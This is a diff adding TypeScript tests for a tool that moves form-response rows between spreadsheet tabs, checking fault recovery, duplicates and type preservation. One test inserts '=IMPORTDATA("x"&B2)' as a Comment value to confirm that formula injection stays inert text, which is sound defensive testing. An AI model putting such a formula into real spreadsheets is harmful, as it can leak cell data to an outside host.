@@ -149,3 +149,134 @@ it.each(between)(
     expect(sheet.rows(KEEP)).toEqual([]);
   },
 );
+
+const faults = ["unavailable", "unavailable-after", "reset", "reset-after"] as const;
+
+it.each(faults.flatMap((fault) => [1, 2, 3, 4].map((at) => ({ fault, at }))))(
+  "If write $at fails ($fault), the next polls finish the move: no row is lost, and none is there twice",
+  async ({ fault, at }) => {
+    const sheet = await aSheetOf(people);
+    await sheet.takeIn({ Ada: "finished", Bo: null, Cy: "spam", Di: null });
+    let writes = 0;
+    sheets.fault = (call) => (call.kind === "write" && ++writes === at ? fault : undefined);
+    const ends: string[] = [];
+    for (let poll = 0; poll < 4; poll++) {
+      // Another process takes over.
+      await sheet.move(sheet.open()).then(
+        () => ends.push("ok"),
+        (error: Error) => ends.push(error.name),
+      );
+    }
+    expect(ends.filter((end) => end !== "ok")).toHaveLength(1);
+    expect(sheet.namesIn(RESPONSES)).toEqual(["Bo", "Di"]);
+    expect(sheet.namesIn("Current Users")).toEqual(["Ada"]);
+    expect(sheet.namesIn("Spam")).toEqual(["Cy"]);
+    expect(sheet.rows(KEEP)).toEqual([]);
+  },
+);
+
+it("A move whose deletion is refused is finished later, and the row isn't copied again", async () => {
+  const sheet = await aSheetOf(people);
+  await sheet.takeIn({ Ada: "finished" });
+  await sheet.move();
+  sheet.person(RESPONSES).protect({ startRow: 1, endRow: 2, editors: [] });
+  for (let poll = 0; poll < 10; poll++) await sheet.move().catch(() => undefined);
+  expect(sheet.namesIn(RESPONSES)).toEqual(people);
+  expect(sheet.namesIn("Current Users")).toEqual(["Ada"]);
+  // Meanwhile, someone has moved and changed the copy.
+  sheet.person("Current Users").type(2, "Role", "Guest");
+  sheet.person("Current Users").insertRow(2);
+  sheet.person(RESPONSES).unprotect();
+  await sheet.move();
+  expect(sheet.namesIn(RESPONSES)).toEqual(["Bo", "Cy", "Di"]);
+  expect(sheet.namesIn("Current Users")).toEqual(["Ada"]);
+});
+
+it("The last row below a frozen heading can be moved, again and again, also from a grid without blank rows", async () => {
+  const sheet = await aSheetOf(["Ada"], {
+    rowCount: 2,
+    frozenRowCount: 1,
+    finished: { rowCount: 1, headings: HEADINGS },
+  });
+  for (const name of ["Ada", "Bo", "Cy"]) {
+    if (name !== "Ada") sheet.submit(RESPONSES, answersOf(name));
+    await sheet.takeIn({ [name]: "finished" });
+    await moveAll(sheet);
+    expect(sheet.namesIn(RESPONSES)).toEqual([]);
+  }
+  expect(sheet.namesIn("Current Users")).toEqual(["Ada", "Bo", "Cy"]);
+});
+
+it("Two equal rows stay two, and each moves on its own", async () => {
+  const sheet = await aSheetOf(["Ada", "Bo", "Ada"]);
+  await sheet.takeIn({ Ada: "finished", Bo: null });
+  await moveAll(sheet);
+  expect(sheet.namesIn(RESPONSES)).toEqual(["Bo"]);
+  expect(sheet.namesIn("Current Users")).toEqual(["Ada", "Ada"]);
+});
+
+it("Texts stay texts and dates stay dates, whatever they look like", async () => {
+  const sheet = await aSheetOf([]);
+  sheet.submit(
+    RESPONSES,
+    answersOf("Ada", { Comment: '=IMPORTDATA("x"&B2)', Phone: "+49 30 1234567", Organization: "0123" }),
+  );
+  const original = sheet.rows(RESPONSES)[1];
+  await sheet.takeIn({ Ada: "finished" });
+  await moveAll(sheet);
+  const [, copy = []] = sheet.rows("Current Users");
+  const pin = HEADINGS.indexOf("PIN for your first password");
+  expect(copy).toEqual(original?.map((text, column) => (column === pin ? "" : text)));
+  const cells = sheet.tab("Current Users").rows[1]?.cells;
+  expect(cells?.[HEADINGS.indexOf("Timestamp")]).toMatchObject({
+    value: expect.any(Number),
+    format: { type: "DATE_TIME" },
+  });
+  for (const heading of ["Comment", "Phone"])
+    expect(cells?.[HEADINGS.indexOf(heading)]?.value).toEqual(expect.any(String));
+});
+
+it("A tab that is missing or has no headings stops its moves with a sentence, and the others continue", async () => {
+  const sheet = await aSheetOf(people, { finished: { rows: [["some", "notes"]] } });
+  await sheet.takeIn({ Ada: "finished", Bo: "spam" });
+  expect(await moveAll(sheet)).toEqual([expect.stringMatching(/"Current Users".*no headings/)]);
+  expect(sheet.namesIn("Spam")).toEqual(["Bo"]);
+  sheet.person("Spam").renameTab("Junk");
+  await sheet.takeIn({ Cy: "spam" });
+  const problems = await sheet.move(sheet.open());
+  expect(problems).toContainEqual(expect.stringMatching(/no tab "Spam"/));
+  expect(sheet.namesIn(RESPONSES)).toEqual(["Ada", "Cy", "Di"]);
+});
+
+it("A copy that differs from its original keeps the original until someone has looked", async () => {
+  const sheet = await aSheetOf(people);
+  await sheet.takeIn({ Ada: "finished" });
+  await sheet.move();
+  sheets.fault = (call) => (call.kind === "write" ? "unavailable-after" : undefined);
+  await sheet.move().catch(() => undefined);
+  sheets.fault = undefined;
+  expect(sheet.namesIn("Current Users")).toEqual(["Ada"]);
+  sheet.person("Current Users").type(2, "Phone", "1");
+  expect(await sheet.move()).toEqual([expect.stringMatching(/row 2 .*"Current Users".*differs/)]);
+  expect(sheet.namesIn(RESPONSES)).toEqual(people);
+  sheet.person("Current Users").deleteRow(2);
+  expect(await sheet.move()).toEqual([]);
+  expect(sheet.namesIn(RESPONSES)).toEqual(["Bo", "Cy", "Di"]);
+  expect(sheet.namesIn("Current Users")).toEqual(["Ada"]);
+});
+
+it("Rows are only written with what can't hit another row, and read once in a poll", async () => {
+  const sheet = await aSheetOf(people);
+  await sheet.takeIn({ Ada: "finished", Bo: "spam" });
+  await moveAll(sheet);
+  await sheet.takeIn({ Cy: "finished" });
+  const before = sheets.calls.length;
+  await sheet.move();
+  const calls = sheets.calls.slice(before);
+  expect(sheet.namesIn(RESPONSES)).toEqual(["Di"]);
+  expect(calls.filter(({ kind }) => kind === "read")).toHaveLength(1);
+  expect(calls.filter(({ method }) => method === "PUT")).toEqual([]);
+  expect(new Set(calls.filter(({ kind }) => kind === "write").map(({ name }) => name))).toEqual(
+    new Set(["spreadsheets.batchUpdate"]),
+  );
+});
